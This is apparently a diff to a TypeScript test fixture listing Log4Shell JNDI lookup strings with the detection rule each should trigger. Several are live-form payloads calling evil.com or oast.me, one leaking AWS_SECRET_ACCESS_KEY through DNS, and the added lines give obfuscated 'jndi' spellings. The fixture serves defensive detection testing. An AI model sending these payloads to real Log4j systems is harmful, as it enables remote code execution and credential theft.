@@ -27,6 +27,11 @@ export const log4shellCases: readonly Log4shellCase[] = [
   { input: '${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.evil.com/a}', expect: 'log4shell/jndi-lookup' },
   { input: '${jndi:ldap://${hostName}.${sys:java.version}.oast.me}', expect: 'log4shell/jndi-lookup' },
   { input: 'x=${jndi:ldap://evil.com/a', expect: 'log4shell/jndi-lookup' },
+  // Lookups that spell the keyword, with or without the `${` that would hold it.
+  { input: 'j${::-nD}i${::-:}', expect: 'log4shell/obfuscated-jndi' },
+  { input: "jn${date:}di${date:':'}", expect: 'log4shell/obfuscated-jndi' },
+  { input: 'jn${env::-}di:', expect: 'log4shell/obfuscated-jndi' },
+  { input: 'set JNDI_URL to ${JNDI_URL}', expect: null },
   // Obfuscations: defaults, case functions, date literals, base64, re-formed lookups.
   {
     input: '${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://evil.com/a}',
